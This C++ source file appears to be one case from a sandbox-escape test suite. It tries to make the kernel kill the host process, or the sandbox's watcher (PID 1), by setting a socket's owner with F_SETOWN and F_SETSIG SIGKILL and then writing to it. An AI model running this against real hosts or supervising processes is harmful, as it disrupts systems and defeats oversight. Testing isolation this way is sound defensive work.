// tries: to have the kernel send the signal: makes a process of the host, or the watcher, the owner of a socket that asks for
//        SIGKILL when there is something to read
// escape: the host's process ends, or a run beside it
// control: outside
// needs: root
#include <csignal>
#include <fcntl.h>
#include <sys/socket.h>

#include "attack.hpp"

static void kill_by_file(int owner) {
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair))
        return;
    std::printf("TRIED owner %d: %d,", owner, fcntl(pair[0], F_SETOWN, owner));
    std::printf(" signal: %d,", fcntl(pair[0], F_SETSIG, SIGKILL));
    std::printf(" flags: %d\n", fcntl(pair[0], F_SETFL, O_ASYNC));
    std::fflush(stdout);
    (void)!write(pair[1], "x", 1);
}

int main() {
    kill_by_file(VICTIM);
    if (getppid() == 1)  // in the sandbox, the watcher; outside, the victim is enough
        kill_by_file(1);
}
